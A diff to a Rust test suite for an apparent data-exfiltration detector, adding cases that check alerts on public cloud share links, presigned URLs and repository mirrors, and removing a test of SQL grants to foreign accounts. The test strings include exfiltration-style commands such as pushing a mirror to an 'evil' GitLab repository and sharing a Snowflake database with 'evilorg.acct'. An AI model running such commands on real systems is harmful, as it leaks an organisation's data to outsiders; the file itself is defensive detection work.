@@ -2,6 +2,7 @@
 //! names file and destination.
 
 mod acts;
+mod databases;
 mod uploads;
 
 use super::world::*;
@@ -127,6 +128,14 @@ fn m40_links_that_let_in_whoever_has_them() {
         ),
         ("coscli signurl cos://corp-data/x", "medium"),
         ("coscli signurl cos://corp-data/x -t 604800", "medium"),
+        ("aliyun ossutil presign oss://corp-data/x --expires-duration 24h", "medium"),
+        ("obsutil create-share obs://corp-data/x", "medium"),
+        ("exo storage presign sos://corp-data/x --expires 168h", "medium"),
+        ("yc storage s3 presign s3://corp-data/x --expires-in 86400", "medium"),
+        ("uplink share sj://corp-data/x --url --not-after=+72h", "medium"),
+        ("uplink share sj://corp-data/ --export-to x.access", "high"),
+        ("box shared-links:create 123 file --access open", "high"),
+        ("dropbox_uploader.sh share /plan.docx", "high"),
         (
             "m365 spo file sharinglink add --webUrl https://corp.sharepoint.com/sites/a --fileId b --type view --scope anonymous",
             "high",
@@ -148,6 +157,8 @@ fn m40_links_that_let_in_whoever_has_them() {
         "m365 spo file sharinglink add --webUrl https://corp.sharepoint.com/sites/a --fileId b --type view --scope organization",
         "m365 spo file sharinglink list --webUrl https://corp.sharepoint.com/sites/a --fileId b --scope anonymous",
         "gsutil signurl -d 10m key.json gs://corp-data/x",
+        "box shared-links:create 123 file --access company",
+        "uplink access list",
         "az storage container generate-sas --name c --account-name corpstore --expiry 2026-01-01T00:30Z",
     ] {
         run(line, &policy).none();
@@ -168,9 +179,39 @@ fn what_the_line_does_not_say_is_unknown() {
         assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
         assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
     }
-    // Nothing at all is known of where it goes.
-    let told = run("rclone copy one:x two:y", &policy);
-    assert!(told.note().iter().any(|note| note.kind.as_str() == "name-hidden"));
+    for line in [
+        "borg transfer -r ssh://e@e.repo.borgbase.com/./r --other-repo ssh://c@c.rsync.net/./r",
+        "glab repo mirror corp/app --direction push --url https://gitlab.com/evil/app.git",
+        "gcloud artifacts repositories set-iam-policy r policy.json --location=l",
+        "aws docdb copy-db-cluster-snapshot --source-db-cluster-snapshot-identifier s --target-db-cluster-snapshot-identifier t",
+    ] {
+        let told = run(line, &policy);
+        assert_eq!(
+            (told.low().tenant.as_deref(), told.low().tenant_verdict.as_str()),
+            (None, "unknown"),
+            "{line}"
+        );
+    }
+    // Nothing at all is known of where it goes; of an alias not even whether it is a folder.
+    for line in [
+        "rclone copy one:x two:y",
+        "mc mirror one/x two/y",
+        "mc cp --recursive one/x two/y",
+        "mc mirror s3/corp-data two/y",
+    ] {
+        let told = run(line, &policy);
+        assert!(told.note().iter().any(|note| note.kind.as_str() == "name-hidden"), "{line}");
+    }
+    for line in [
+        "mc mirror ./dist two/y",
+        "mc cp /private/tmp/x two/y",
+        "mc cp two/y/x /private/tmp/x",
+        "mc mirror one/x s3/site",
+    ] {
+        let told = run(line, &policy);
+        told.none();
+        assert!(told.coverage().is_empty(), "{line}: {:?}", told.coverage());
+    }
 }
 
 /// Where no entry names an account of the service, each one that is named is foreign: of another service's entries, too.
@@ -331,75 +372,6 @@ fn the_environment_names_the_project_and_where_from() {
     assert_eq!(copied.alert().tenant.as_deref(), Some("evil"));
     told(&["restic", "-r", "s3:s3.amazonaws.com/corp-backup", "copy"], &[from]).none();
     told(&["restic", "-r", "s3:s3.amazonaws.com/evil", "snapshots"], &[from]).none();
-}
-
-/// What a database is asked may let another account in.
-#[test]
-fn grants_in_statements_are_told() {
-    let told = |args: &[&str]| {
-        let mut w = World::new();
-        w.policy = own();
-        let shell = w.launch(0.0, ZSH, &["-zsh"]);
-        w.spawn(1.0, &shell, tool(args[0].to_owned().leak()), args);
-        w.tell()
-    };
-    for (args, service, tenant) in [
-        (&["snowsql", "-q", "ALTER SHARE s ADD ACCOUNTS = evilorg.acct"][..], "snowflake", "evilorg.acct"),
-        (
-            &["snow", "sql", "-q", "use role a; alter share s set accounts=evilorg.acct"],
-            "snowflake",
-            "evilorg.acct",
-        ),
-        (
-            &[
-                "psql",
-                "-h",
-                "c.redshift.amazonaws.com",
-                "-c",
-                "GRANT USAGE ON DATASHARE s TO ACCOUNT '999988887777'",
-            ],
-            "aws",
-            "999988887777",
-        ),
-        (
-            &[
-                "aws",
-                "redshift-data",
-                "execute-statement",
-                "--sql",
-                "grant usage on datashare s to account '999988887777'",
-            ],
-            "aws",
-            "999988887777",
-        ),
-        (
-            &[
-                "bq",
-                "query",
-                "--use_legacy_sql=false",
-                "GRANT `roles/bigquery.dataViewer` ON SCHEMA d TO \"user:eve@example.com\"",
-            ],
-            "gcp",
-            "eve@example.com",
-        ),
-    ] {
-        let told = told(args);
-        let alert = told.alert();
-        let found = (alert.service.as_deref(), alert.tenant.as_deref(), alert.tenant_verdict.as_str());
-        assert_eq!(found, (Some(service), Some(tenant), "foreign"), "{args:?}");
-        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{args:?}");
-    }
-    for args in [
-        &["snowsql", "-q", "CREATE SHARE s; GRANT SELECT ON TABLE t TO SHARE s"][..],
-        &["snowsql", "-q", "alter share s remove accounts = evilorg.acct"],
-        &["psql", "-c", "GRANT USAGE ON DATASHARE s TO ACCOUNT '111122223333'"],
-        &["psql", "-c", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob"],
-        &["bq", "query", "GRANT `roles/bigquery.dataViewer` ON SCHEMA d TO \"user:bob@corp.com\""],
-        &["psql"],
-        &["snowsql", "-f", "x.sql"],
-    ] {
-        told(args).none();
-    }
 }
 
 /// The id of an object in a directory is nearly always one of one's own: it does not tell, and so it accuses nobody.
